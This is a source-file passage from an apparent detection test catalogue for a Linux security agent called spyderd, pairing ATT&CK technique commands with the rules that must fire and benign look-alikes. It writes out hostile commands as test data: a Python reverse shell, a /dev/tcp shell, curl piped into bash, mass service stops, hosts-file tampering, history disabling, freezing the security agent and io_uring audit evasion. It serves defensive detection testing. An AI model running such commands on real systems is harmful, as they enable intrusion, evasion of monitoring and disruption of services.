GNUPGHOME=$W/gnupg gpg --batch --yes --passphrase atomic -c -o $W/doc.gpg $W/doc.txt 2>/dev/null || true
""",
      ("Files encrypted with a command-line tool",),
      benign="openssl enc -base64 -in /etc/hostname > /dev/null\nopenssl dgst -sha256 /etc/hostname > /dev/null\n"),
    T("T1489", "Several services stopped", IMPACT,
      "T1489 #3 Service Stop (Linux systemctl)",
      """for s in cron atd nginx ssh postgresql mysql; do systemctl stop $s 2>/dev/null; done
true
""",
      ("Many services stopped by one process",),
      benign="for s in cron atd; do systemctl stop $s 2>/dev/null; done\ntrue\n"),
    T("T1531", "Account locked and password reset", IMPACT,
      "T1531 #3 Change User Password / #4 Delete User / lock (Linux)",
      """useradd -M -s /usr/sbin/nologin atl$TAG
echo "atl$TAG:Atomic-Pa55" | chpasswd
passwd -l atl$TAG > /dev/null
""",
      ("Account locked or its password reset by a script",),
      cleanup="userdel atl$TAG 2>/dev/null || true\n",
      benign="passwd -S root > /dev/null\n"),
    T("T1565.001", "Hosts file entry added", IMPACT,
      "T1565.001 Stored Data Manipulation (/etc/hosts redirect)",
      """cp /etc/hosts $W/hosts.bak
echo "127.0.0.2 update.atomic-$TAG.test" >> /etc/hosts
""",
      ("Hosts file changed",),
      cleanup='sed -i "/atomic-$TAG/d" /etc/hosts\n',
      benign="cat /etc/hosts > /dev/null; getent hosts localhost > /dev/null\n"),
    # -- seen through issue 11's capture (stdio, pipes, env, scripts, xattrs, signals) ----
    T("T1059.004", "Script run from /tmp", EXECUTION,
      "T1059.004 #1 Create and Execute Bash Shell Script (from /tmp)",
      "printf 'true\\n' > $W/stage.sh\nbash $W/stage.sh\n",
      ("Script run from a temporary directory",),
      benign="printf 'true\\n' > $S/ok.sh\nbash $S/ok.sh\n"),
    T("T1059.004", "Shell reading a TCP socket", EXECUTION,
      "T1059.004 Unix shell: shell with its input redirected from /dev/tcp",
      """listen_sink
bash -c "sh -c 'exit 0' 0<>/dev/tcp/127.0.0.1/$SINK"
""",
      ("Shell reading commands from a network socket",),
      benign="sh -c 'exit 0' < /dev/null\n"),
    T("T1059.006", "Python reverse shell with dup2", EXECUTION,
      "T1059.006 Python: socket duplicated onto stdin/stdout/stderr",
      """listen_sink
python3 -c "import socket,os;s=socket.create_connection(('127.0.0.1',$SINK));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.system('true')"
""",
      ("Network socket duplicated onto standard streams",),
      benign="python3 -c \"import os;f=open('/dev/null','w');os.dup2(f.fileno(),1)\"\n"),
    T("T1105", "curl output piped into bash", C2,
      "T1105 / T1059.004: curl | bash seen from the pipe",
      """mkdir -p $W/srv && printf 'id > /dev/null\\n' > $W/srv/get.sh
serve $W/srv
curl -s http://127.0.0.1:$PORT/get.sh | bash
""",
      ("Download piped into a shell",),
      benign="""mkdir -p $W/srv && printf 'id\\n' > $W/srv/get.sh
serve $W/srv
curl -s http://127.0.0.1:$PORT/get.sh | grep -c id > /dev/null
"""),
    T("T1574.006", "Library preloaded with LD_PRELOAD", PERSISTENCE,
      "T1574.006 #2 Shared Library Injection via LD_PRELOAD",
      "LD_PRELOAD=/nonexistent/libatomic.so /bin/true 2>/dev/null\n",
      ("Library preloaded through the environment",),
      benign="LD_LIBRARY_PATH=/usr/lib /bin/true\n"),
    T("T1562.003", "Shell started with HISTFILE=/dev/null", EVASION,
      "T1562.003 #1 Disable history collection (HISTFILE)",
      "HISTFILE=/dev/null bash -c true\n",
      ("Shell started with history turned off",),
      benign="HISTFILE=/root/.bash_history bash -c true\n"),
    T("T1562.001", "Signal sent to spyderd", EVASION,
      "T1562.001 Impair Defenses: signal the security agent",
      "kill -CONT $SPYDERD_PID\n",
      ("Signal aimed at spyderd",),
      benign="sleep 3 & V=$!; bg $V; kill -CONT $V\n"),
    T("T1562.001", "spyderd frozen with SIGSTOP", EVASION,
      "T1562.001 Impair Defenses: stop the security agent's process",
      "kill -STOP $SPYDERD_PID; sleep 0.2; kill -CONT $SPYDERD_PID\n",
      ("spyderd killed or frozen by another process",),
      benign="sleep 3 & V=$!; bg $V; kill -STOP $V; kill -CONT $V\n"),
    T("T1105", "Script downloaded with curl and run by bash", EXECUTION,
      "T1105 Ingress Tool Transfer / T1059.004: download a script, then `bash script`",
      """mkdir -p $W/srv && printf 'id > /dev/null\\n' > $W/srv/update.sh
serve $W/srv
curl -s -o $W/update.sh http://127.0.0.1:$PORT/update.sh
bash $W/update.sh
""",
      ("Downloaded file executed", "Script run from a temporary directory"),
      benign="""printf 'id > /dev/null\\n' > $S/update.sh
bash $S/update.sh
""",
      quiet=("Downloaded file executed", "Script run from a temporary directory")),
    T("T1562.001", "io_uring ring set up by a python script in a temp dir", EVASION,
      "T1562.001 Impair Defenses / T1014: I/O through io_uring, unseen by syscall auditing",
      """cat > $W/ring.py <<'PY'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)  # io_uring_setup(8, &params)
assert fd >= 0, ctypes.get_errno()
PY
python3 $W/ring.py
""",
      ("io_uring set up from a temporary location or by an interpreter",),
      # fio, a known io_uring user, reading a file through its ring (a job fails without one)
      benign="""fio --name=ring --ioengine=io_uring --rw=read --size=256k --filename=$S/data \\
    --output-format=terse > /dev/null
""",
      quiet=("io_uring set up from a temporary location or by an interpreter",
             "io_uring set up by an unexpected program")),
    T("T1014", "io_uring ring set up by an unknown program", EVASION,
      "T1014 Rootkit: a compiled helper doing its I/O through io_uring",
      """mkdir -p $S/bin && cat > $S/bin/ringd.c <<'C'
#include <unistd.h>
#include <sys/syscall.h>
int main(void) { char params[120] = {0}; return syscall(425, 8, params) < 0; }
C
gcc -o $S/bin/ringd $S/bin/ringd.c && $S/bin/ringd
""",
      ("io_uring set up by an unexpected program",)),
)

# Rules tested only with recorded events: triggering them would damage the test machine.
REPLAY_ONLY = {
    "Disk or partition overwritten": "overwrites a disk (tests/rules/examples)",
    "System shutdown or reboot requested": "powers the machine off (tests/rules/examples)",
}


def render_doc() -> str:
    """docs/detections.md: technique → rules → test."""
    lines = [
        "# Detections",
        "",
        "<!-- generated by tests/attacks/test_attacks.py from tests/attacks/catalogue.py -->",
        "",
        "Linux techniques from the ATT&CK matrix, modelled on the public Atomic Red Team tests",
        "and written for spyderd's test suite (`tests/attacks/`). Each one runs for real as",
        "root on the test machine against one spyderd with the default rules, is cleaned up,",
        "and must produce a finding of every rule listed whose chain holds the technique's",
        "process. Where a benign look-alike is listed, the rules it names must stay quiet on",
        "it. The test id is `tests/attacks/test_attacks.py::test_technique_detected[SLUG]`.",
        "",
        "| tactic | technique | what runs (Atomic test followed) | rules | benign look-alike | test |",
        "|---|---|---|---|---|---|",
    ]
    for t in TECHNIQUES:
        rules = "<br>".join(t.rules)
        benign = "yes: " + ", ".join(t.quiet_rules) if t.benign else ""
        lines.append(f"| {t.tactic} | {t.id} {t.name} | {t.atomic} | {rules} | {benign} | "
                     f"`{t.slug}` |")  # fmt: skip
    lines += [
        "",
        "## Rules tested with recorded events only",
        "",
        "Triggering these would damage the machine, so they are replayed from recordings",
        "(`tests/rules/examples/`, `spyderctl rules test`) instead of run:",
        "",
    ]
    lines += [f"- {rule}: {why}" for rule, why in sorted(REPLAY_ONLY.items())]
    lines.append("")
    return "\n".join(lines)
